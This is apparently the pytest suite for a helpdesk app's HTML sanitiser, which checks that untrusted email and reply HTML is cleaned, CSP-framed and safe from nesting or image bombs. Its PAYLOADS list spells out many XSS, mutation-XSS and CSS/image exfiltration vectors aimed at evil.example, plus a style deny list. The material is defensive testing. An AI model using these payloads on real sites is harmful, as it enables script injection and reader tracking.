"""What a stranger's HTML becomes: no script, no request, nothing lost that can be read."""

# ruff: noqa: E501 - letters stand here as they arrive, long lines and all

import base64
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from app.tickets.safe_html import (
    clean_letter,
    frame_csp,
    frame_document,
    has_remote_images,
    reply_to_text,
    sanitise_reply,
)

_names = str.split

PIXEL = "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
IMAGES = {
    "logo@client.example": PIXEL,
    "bad": "javascript:alert(1)",
    "svg": "data:image/svg+xml;base64,PHN2Zz4=",
}

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<script/x>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1);//<</script>",
    "<script>alert(1)",
    "<!--<script>--><img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror = 'alert(1)'>",
    "<img/src='x'/onerror=alert(1)>",
    "<img src=`x` onerror=alert(1)>",
    "<img src='x' ONERROR=alert(1) x='>",
    "<img src=\"x\" on\x00error=alert(1)>",
    "<img src=javascript:alert(1)>",
    "<img src=\"jav&#x09;ascript:alert(1)\">",
    "<img src=https://evil.example/p.gif>",
    "<img src=//evil.example/p.gif>",
    "<img src=http://evil.example/p.gif>",
    "<img src=\\\\evil.example\\p.gif>",
    "<img srcset='https://evil.example/p.gif 2x'>",
    "<img src=cid:bad>",
    "<img src=cid:svg>",
    "<img src=cid:unknown>",
    "<img src='data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+'>",
    "<img src='data:text/html,<script>alert(1)</script>'>",
    "<img lowsrc=https://evil.example/x dynsrc=https://evil.example/y>",
    "<image src=x onerror=alert(1)>",
    "<input type=image src=https://evil.example/x onfocus=alert(1) autofocus>",
    "<body onload=alert(1)>",
    "<body background=https://evil.example/x>",
    "<table background=https://evil.example/x><tr><td background='//evil.example'>x</td></tr></table>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><image href=https://evil.example/x /></svg>",
    "<svg><use href='https://evil.example/x#y'/></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></foreignObject></svg>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<math href='javascript:alert(1)'>x</math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='javascript&colon;alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='data:image/png;base64,AAAA'>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href='//evil.example/x'>x</a>",
    "<a href='/logout'>x</a>",
    "<a href='cid:x'>x</a>",
    "<a href='https://ok.example' onclick=alert(1) target=_top>x</a>",
    "<a href='https://ok.example' ping='https://evil.example'>x</a>",
    "<area href='javascript:alert(1)' shape=default><map name=x></map>",
    "<base href='https://evil.example/'><a href='x'>x</a>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<meta http-equiv=Content-Security-Policy content='default-src *'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<link rel=prefetch href=https://evil.example/x>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>body{background:url(https://evil.example/x)}</style>",
    "<style></style><img src=x onerror=alert(1)></style>",
    "<div style='background:url(https://evil.example/x)'>x</div>",
    "<div style='background-image:url(https://evil.example/x)'>x</div>",
    "<div style='background-color:red;background:u\\72l(https://evil.example/x)'>x</div>",
    "<div style='color:expression(alert(1))'>x</div>",
    "<div style='color:ex/**/pression(alert(1))'>x</div>",
    "<div style='font-family:url(https://evil.example/x)'>x</div>",
    "<div style='width:1px;behavior:url(https://evil.example/x.htc)'>x</div>",
    "<div style='-moz-binding:url(https://evil.example/x.xml#y)'>x</div>",
    "<div style='position:fixed;top:0;left:0;width:100%;height:100%'>x</div>",
    "<div style='color:red;@import url(https://evil.example/x)'>x</div>",
    "<div style='list-style-image:url(https://evil.example/x)'>x</div>",
    "<div style='content:url(https://evil.example/x)'>x</div>",
    "<div style='cursor:url(https://evil.example/x),auto'>x</div>",
    "<div style='color:image-set(\"https://evil.example/x\" 1x)'>x</div>",
    "<div style='width:calc(1px);color:var(--x);--x:url(https://evil.example)'>x</div>",
    "<div style='font-family:\"x;background:url(//evil.example)\"'>x</div>",
    "<div style='font-family:\\75rl\\28 https://evil.example/x\\29'>x</div>",
    "<div style='color:rgb(1,2,3) url(https://evil.example/x)'>x</div>",
    "<div style='width:rgb(1) expression(alert(1))'>x</div>",
    "<div style='font-family:@x'>x</div>",
    "<div style='width:/*x*/1px'>x</div>",
    "<div style='font-family:x\\'>x</div>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<img src=x onerror=alert(1)>'></iframe>",
    "<iframe/onload=alert(1)>",
    "<object data='https://evil.example/x.swf'></object>",
    "<embed src='https://evil.example/x.swf'>",
    "<applet code=x></applet>",
    "<audio src=https://evil.example/x autoplay onplay=alert(1)></audio>",
    "<video poster=https://evil.example/x><source src=https://evil.example/y onerror=alert(1)></video>",
    "<form action=https://evil.example><input name=password><button formaction='javascript:alert(1)'>x</button></form>",
    "<isindex action=javascript:alert(1) type=image>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<keygen autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)><option>x</select>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<title><img src=x onerror=alert(1)></title>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<noembed><img title='</noembed><img src=x onerror=alert(1)>'></noembed>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<template><img src=x onerror=alert(1)></template>",
    "<p title='</p><img src=x onerror=alert(1)>'>x",
    "<p title=\"&quot;><img src=x onerror=alert(1)>\">x",
    "<div id=x class=y name=z data-x=1 contenteditable onbeforeinput=alert(1)>x</div>",
    "<img usemap=#m src=x><map name=m><area href=javascript:alert(1)></map>",
    "</body></html><script>alert(1)</script>",
    "<!DOCTYPE html [<!ENTITY x 'y'>]><x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
    "<?xml version='1.0'?><?php echo 1 ?><img src=x onerror=alert(1)>",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<!--[if mso]><img src=https://evil.example/x><![endif]-->",
    "<!--><img src=x onerror=alert(1)>-->",
    "<custom-tag onclick=alert(1) is=x>x</custom-tag>",
    "<a href='https://ok.example\"onmouseover=alert(1)'>x</a>",
    "<font color='red\" onmouseover=\"alert(1)' face='url(x)'>x</font>",
    "<td nowrap onmouseover=alert(1) width='100%\" onload=\"alert(1)'>x",
]  # fmt: skip

TAGS = frozenset(
    _names(
        """
    html head meta title style body a abbr b big blockquote br caption center cite code col colgroup
    dd del div dl dt em font h1 h2 h3 h4 h5 h6 hr i img ins kbd li ol p pre q s samp small span
    strike strong sub sup table tbody td tfoot th thead tr tt u ul var
    """
    )
)
ATTRIBUTES = frozenset(
    _names(
        """
    style dir align title href src alt width height border cellpadding cellspacing bgcolor colspan
    rowspan valign nowrap span color size face start type value rel target
    """
    )
)
BAD_STYLE = (
    "url",
    "expression",
    "@",
    "position",
    "\\",
    "/*",
    "javascript",
    "var(",
    "image-set",
    "behavior",
    "binding",
)


class Seen(HTMLParser):
    """Every tag and attribute of a document, as a parser reads it."""

    def __init__(self, document):
        super().__init__(convert_charrefs=True)
        self.tags, self.words = [], []
        self.feed(document)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data):
        self.words.append(data)


def assert_inert(tags, remote=False):
    for tag, attributes in tags:
        assert tag in TAGS
        for name, value in attributes.items():
            assert name in ATTRIBUTES, (tag, name)
            assert not any(bad in (value or "").casefold() for bad in BAD_STYLE if name == "style"), value
        if "href" in attributes:
            assert attributes["href"].split(":")[0].casefold() in {"http", "https", "mailto", "tel"}
        if "src" in attributes:
            allowed = ("data:image/png;", "data:image/jpeg;", "data:image/gif;", "data:image/webp;")
            assert attributes["src"].casefold().startswith((*allowed, "https://") if remote else allowed)


def letter_tags(html, remote=False):
    return Seen(clean_letter(html, images=IMAGES, allow_remote=remote)).tags


@pytest.mark.parametrize("remote", [False, True], ids=["closed", "remote images"])
@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_payload_is_inert(payload, remote):
    for html in (payload, f"<p>before {payload} after</p>", f"<table><tr><td>{payload}", payload.upper()):
        assert_inert(letter_tags(html, remote), remote)
        assert_inert(Seen(sanitise_reply(html)).tags)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_cleaning_twice_changes_nothing(payload):
    for html in (payload, f"<p>before {payload} after</p>"):
        once = clean_letter(html, images=IMAGES, allow_remote=True)
        assert clean_letter(once, images=IMAGES, allow_remote=True) == once
        reply = sanitise_reply(html)
        assert sanitise_reply(reply) == reply


PIECES = st.sampled_from(
    [
        "<p>", "</p>", "<b>", "</b>", "<a href='https://ok.example'>", "</a>", "<table>", "<tr>", "<td>", "</td>",
        "</table>", "<svg>", "</svg>", "<math>", "<mtext>", "<style>", "</style>", "<!--", "-->", "<img src=x onerror=y>",
        "<select>", "<li>", "<ul>", "</ul>", "<pre>\n\n", "</pre>", "text", "&lt;", "&amp;lt;", "<", ">", "'", '"', "\n",
        "<div style='color:red;background:url(x)'>", "</div>", "<font color=red>", "<i>", "</i>", "<h1>", "<template>",
        "<noscript>", "<textarea>", "<title>", "]]>", "<form>", "</form>", "<br/>", "<plaintext>", "\x00", "&#0;", "\ud800",
        "<blockquote>", "<caption>", "<col>", "<dd>", "<nobr>", "<option>", "<a\nhref=javascript:x>", "<p title='", "--!>",
    ]
)  # fmt: skip


@settings(max_examples=300, deadline=None)
@given(st.lists(PIECES, max_size=40).map("".join))
def test_any_mixture_is_inert_and_settled(html):
    html = html.replace("\ud800", "")
    once = clean_letter(html, images=IMAGES, allow_remote=False)
    assert_inert(Seen(once).tags)
    assert clean_letter(once, images=IMAGES, allow_remote=False) == once


def test_a_lone_surrogate_does_no_harm():
    assert "after" in frame_document("before \ud800 after", images={}, allow_remote=False)


def test_an_ordinary_letter_keeps_its_look():
    html = (
        "<div style=\"font-family: Arial, 'Segoe UI'; color: rgb(1, 2, 3); margin: 0 auto; line-height: 1.5\">"
        "<h2>Hello</h2><p align=center>One <strong>two</strong> <a href='https://ok.example/a?b=1&amp;c=2'>three</a></p>"
        "<table width=100% cellpadding=4 bgcolor='#eeeeee'><tr><td colspan=2 valign=top>four</td></tr></table>"
        "<ul><li>five</li></ul><blockquote>six</blockquote></div>"
    )
    cleaned = clean_letter(html, images={}, allow_remote=False)
    for kept in (
        "font-family:Arial, 'Segoe UI'", "color:rgb(1, 2, 3)", "margin:0 auto", "<h2>Hello</h2>", 'colspan="2"',
        'bgcolor="#eeeeee"', 'width="100%"', "<li>five</li>", "<blockquote>six</blockquote>",
        'href="https://ok.example/a?b=1&amp;c=2"',
    ):  # fmt: skip
        assert kept in cleaned


def test_links_open_elsewhere_and_tell_nothing():
    ((tag, attributes),) = letter_tags("<a href='https://ok.example' target=_self rel=opener>x</a>")
    assert tag == "a"
    assert attributes["target"] == "_blank"
    assert set(attributes["rel"].split()) == {"noopener", "noreferrer", "nofollow"}


@pytest.mark.parametrize(
    "source",
    [
        "cid:logo@client.example",
        "CID:logo@client.example",
        "cid:logo%40client.example",
        "cid:<logo@client.example>",
    ],
)
def test_an_inline_picture_is_put_in(source):
    assert letter_tags(f'<img src="{source}" alt="Logo">') == [("img", {"src": PIXEL, "alt": "Logo"})]


def test_a_picture_of_ten_thousand_million_points_stays_hidden():
    bomb = PIXEL[:22] + base64.b64encode(base64.b64decode(PIXEL[22:])[:16] + b"\x00\x01\x86\xa0" * 2).decode()
    assert letter_tags(f"<img src='{bomb}'>") == [("img", {})]
    assert letter_tags(f"<img src='{PIXEL}'>") == [("img", {"src": PIXEL})]


def test_remote_pictures_appear_only_when_asked_for():
    html = "<img src='https://shop.example/a.png'><img src='http://shop.example/b.png'>"
    assert [attributes.get("src") for _, attributes in letter_tags(html)] == [None, None]
    shown = [attributes.get("src") for _, attributes in letter_tags(html, remote=True)]
    assert shown == ["https://shop.example/a.png", "https://shop.example/b.png"]


@pytest.mark.parametrize(
    ("html", "remote"),
    [
        ("<img src='https://shop.example/a.png'>", True),
        ("<IMG alt='a > b' SRC = http://shop.example/a.png>", True),
        ("<img src='&#104;ttps://shop.example/a.png'>", True),
        ("<img src='cid:a'>", False),
        (f"<img src='{PIXEL}'>", False),
        ("<p>https://shop.example/a.png</p>", False),
        ("<!-- <img src='https://shop.example/a.png'> -->", False),
        ("<a href='https://shop.example/a.png'>x</a>", False),
    ],
)
def test_the_page_knows_whether_there_are_remote_pictures(html, remote):
    assert has_remote_images(html) is remote


def test_the_document_is_complete_and_carries_its_policy():
    document = frame_document("<p>Hello</p>", images={}, allow_remote=False)
    assert document.startswith("<!DOCTYPE html>")
    assert document.endswith("</body></html>")
    tags = Seen(document).tags
    policies = [
        a["content"] for t, a in tags if t == "meta" and a.get("http-equiv") == "Content-Security-Policy"
    ]
    assert policies == [
        "default-src 'none'; img-src data:; style-src 'unsafe-inline'; form-action 'none'; base-uri 'none'"
    ]
    assert [tag for tag, _ in tags if tag in {"script", "base", "link"}] == []


def test_the_policy_opens_pictures_only_when_asked():
    closed = {part.strip().split(" ")[0]: part.strip() for part in frame_csp(False).split(";")}
    opened = {part.strip().split(" ")[0]: part.strip() for part in frame_csp(True).split(";")}
    assert closed["img-src"] == "img-src data:"
    assert opened["img-src"] == "img-src data: https:"
    for policy in (closed, opened):
        assert policy["default-src"] == "default-src 'none'"
        assert policy["sandbox"] == "sandbox allow-popups allow-popups-to-escape-sandbox"
        assert policy["frame-ancestors"] == "frame-ancestors 'self'"
        assert "script-src" not in policy


BOMBS = {
    "div": "<div>x" * 50_000,
    "b": "<b>x" * 30_000,
    "formatting of every paragraph": "".join(f"<b id={n}><p>x" for n in range(20_000)),
    "ends in comments": "<div>x<!--</div>-->" * 20_000,
    "ends in attributes": "<div>x<p title='</div>'>" * 20_000,
    "ends in tables": "<div>x<table></div></table>" * 10_000,
    "ends in formatting": "<b><div>x</b>" * 20_000,
    "ends in selects": "<div>x<select></div></select>" * 10_000,
    "ends in scripts": "<div>x<script><!--<script></script></div>--></script>" * 10_000,
    "ends in svg": "<svg><div>x<style></div></style></svg>" * 10_000,
    "font in font": "<font color=red><p>x" * 20_000,
}


@pytest.mark.parametrize("bomb", BOMBS.values(), ids=BOMBS.keys())
def test_what_nests_without_end_is_shown_as_text(bomb):
    cleaned = clean_letter(bomb, images={}, allow_remote=False)
    depth = deepest = 0
    for piece in cleaned.split("<")[1:]:
        depth += -1 if piece.startswith("/") else 0 if piece.startswith(("br", "img", "hr")) else 1
        deepest = max(deepest, depth)
    assert deepest <= 220
    assert len(cleaned) < 12 * len(bomb)
    assert "x" in cleaned


@pytest.mark.parametrize(
    "html",
    [
        "<style><!-- p { color: red } </style>the lamp is broken",
        "<style><!-- p { color: red } --></style>the lamp is broken",
        "<svg>the lamp is broken",
        "<select><option>the lamp is broken",
        "<template>the lamp is broken",
        "<noscript>the lamp is broken</noscript>",
        "<textarea>the lamp is broken</textarea>",
        "<form><button>the lamp is broken</button></form>",
        "<unknown>the lamp is broken</unknown>",
        "the < lamp > is broken <3".replace("< lamp >", "lamp"),
        "<![endif]-->the lamp is broken",
    ],
)
def test_words_inside_unwanted_elements_are_kept(html):
    assert "the lamp is broken" in "".join(Seen(clean_letter(html, images={}, allow_remote=False)).words)


def test_styles_and_scripts_are_not_words():
    html = "<title>T</title><style>p > b { color: red }</style><script>if (a < b) c()</script><p>seen</p>"
    assert clean_letter(html, images={}, allow_remote=False) == "<p>seen</p>"


def test_words_survive_when_the_form_is_given_up():
    html = "<p>Dear team,</p>" + "<div>" * 500 + "the &lt;lamp&gt; is <b>broken</b>" + "</div>" * 500
    words = "".join(Seen(clean_letter(html, images={}, allow_remote=False)).words)
    assert "Dear team," in words
    assert "the <lamp> is broken" in words


@pytest.mark.parametrize(
    "html",
    [
        "<table><tr><td><p>cell</p></td></tr></table>" * 400,
        "<p>unclosed paragraph" * 1000,
        "<ul>" + "<li>unclosed item" * 1000 + "</ul>",
        "<table>" + "<tr><td>unclosed cell<td>and another" * 500 + "</table>",
        "<table>" + "<tr><td><font color=red>unclosed font</td></tr>" * 500 + "</table>",
        "<!--[if mso]><table><tr><td><![endif]--><p>x</p><!--[if mso]></td></tr></table><![endif]-->" * 300,
        "<p><font color=red>unclosed font</p>" * 500,
        "<blockquote>" * 60 + "long thread" + "</blockquote>" * 60,
        "line<br>" * 5000,
    ],
)
def test_long_but_flat_letters_keep_their_form(html):
    cleaned = clean_letter(html, images={}, allow_remote=False)
    assert any(tag in cleaned for tag in ("<p>", "<li>", "<td>", "<blockquote>", "<br>"))
    assert not cleaned.startswith("<div>")


REPLY_TEXTS = {
    "paragraphs": (
        "<div>Hello Anna,<br><br>it is <strong>done</strong>.</div>",
        "Hello Anna,\n\nit is done.",
    ),
    "two blocks": ("<div>one</div><div>two</div>", "one\ntwo"),
    "real paragraphs": ("<p>one</p><p>two</p>", "one\n\ntwo"),
    "link": (
        '<div>See <a href="https://x.example/a">our page</a>.</div>',
        "See our page <https://x.example/a>.",
    ),
    "link shown as it is": ('<a href="https://x.example/a">https://x.example/a</a>', "https://x.example/a"),
    "mail link": ('<a href="mailto:a@x.example">a@x.example</a>', "a@x.example"),
    "bold link": ('<a href="https://x.example/"><strong>page</strong></a>', "page <https://x.example/>"),
    "list": ("<div>Do:</div><ul><li>one</li><li>two</li></ul><div>Bye</div>", "Do:\n- one\n- two\n\nBye"),
    "numbered": ("<ol><li>one</li><li>two</li></ol>", "1. one\n2. two"),
    "list in list": (
        "<ul><li>one<ol><li>a</li><li>b</li></ol></li><li>two</li></ul>",
        "- one\n  1. a\n  2. b\n- two",
    ),
    "quote": ("<blockquote>one<br>two</blockquote><div>three</div>", "> one\n> two\n\nthree"),
    "quote in quote": ("<blockquote><blockquote>a</blockquote>b</blockquote>", "> > a\n>\n> b"),
    "code": ("<pre>if x:\n    y</pre><div>z</div>", "if x:\n    y\n\nz"),
    "heading": ("<h1>Title</h1><div>text</div>", "Title\n\ntext"),
    "spaces": ("<div>a   b\n c</div>", "a b c"),
    "entities": ("<div>1 &lt; 2 &amp;&nbsp;3</div>", "1 < 2 & 3"),
    "script": ("<div>a<script>b</script></div>", "a"),
    "russian": ("<div>Здравствуйте, Анна!<br>Готово.</div>", "Здравствуйте, Анна!\nГотово."),
    "empty": ("", ""),
    "no tags": ("just text", "just text"),
}


@pytest.mark.parametrize(("html", "text"), REPLY_TEXTS.values(), ids=REPLY_TEXTS.keys())
def test_a_reply_as_plain_text(html, text):
    assert reply_to_text(html) == text


def test_a_reply_keeps_the_marks_of_the_editor_and_no_others():
    html = '<div class="x" style="color:red">a <em>b</em> <del>c</del> <u>d</u><figure><img src="x"></figure></div>'
    assert sanitise_reply(html) == "<div>a <em>b</em> <del>c</del> d</div>"
